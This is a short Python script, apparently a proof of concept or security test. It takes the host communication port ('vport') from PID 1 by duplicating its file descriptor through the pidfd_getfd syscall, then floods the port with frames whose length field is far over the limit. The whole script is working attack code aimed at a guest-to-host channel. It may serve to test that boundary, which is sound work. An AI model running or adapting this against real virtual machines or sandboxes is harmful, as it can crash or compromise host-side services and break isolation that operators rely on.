"""Takes the port to the host from PID 1, and sends frames that are longer than the limit."""

import ctypes
import os

PIDFD_GETFD = 438
pidfd = os.pidfd_open(1)
for name in os.listdir("/proc/1/fd"):
    if "vport" in os.readlink(f"/proc/1/fd/{name}"):
        port = ctypes.CDLL(None).syscall(PIDFD_GETFD, pidfd, int(name), 0)
        os.set_blocking(port, True)
        os.write(port, b"\x05\0\0\0\x7f\xff\xff\xff" * 8)
